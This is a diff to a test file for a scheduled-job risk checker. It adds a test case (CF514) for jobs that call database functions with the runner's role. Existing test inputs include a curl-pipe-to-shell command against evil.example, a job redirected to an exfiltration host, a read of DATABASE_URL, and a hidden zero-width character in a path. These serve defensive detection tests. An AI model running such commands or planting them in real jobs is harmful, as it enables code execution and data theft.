@@ -83,6 +83,7 @@ const CASES = [
   { code: 'CF510', level: 'HIGH', input: change(null, { job: { type: 'command', command: ['sh', '-c', 'curl -s https://evil.example/x | sh'], cwd: '.', env: {} } }), message: 'sh fetches or decodes code and executes it: "curl -s https://evil.example/x | sh"' },
   { code: 'CF511', level: 'HIGH', input: change({ job: http() }, { job: http({ url: 'https://collector.evil.example/report' }) }), message: 'the http job now calls host "collector.evil.example" (was host "api.example.com"): "https://collector.evil.example/report"' },
   { code: 'CF512', level: 'HIGH', input: change(null, { job: { type: 'command', command: ['node', 'jobs/a.js'], cwd: '.', env: { DB: { fromEnv: 'DATABASE_URL' } } } }), message: "job.env.DB reads DATABASE_URL, cronform's own configuration: the job would get the runner's database or settings" },
+  { code: 'CF514', level: 'HIGH', input: change(null, { job: { type: 'queue', system: 'sql', function: 'app.enqueue_report', arguments: { d: 'businessDate' } } }), message: "the job calls database function \"app.enqueue_report\" with the runner's database role (sql app.enqueue_report(d => businessDate))" },
   { code: 'CF513', level: 'HIGH', input: change(null, { job: { type: 'command', command: ['node', 'jobs/daily\u200b-report.js'], cwd: '.', env: {} } }), message: 'job.command[1] contains control, bidi or invisible characters: "jobs/daily\\u200B-report.js"' },
 ] as const;
 
@@ -263,6 +264,7 @@ it('RiskCodes is the table of every code, and each has a test case', () => {
       "CF511",
       "CF512",
       "CF513",
+      "CF514",
       "CF701",
       "CF702",
       "CF703",
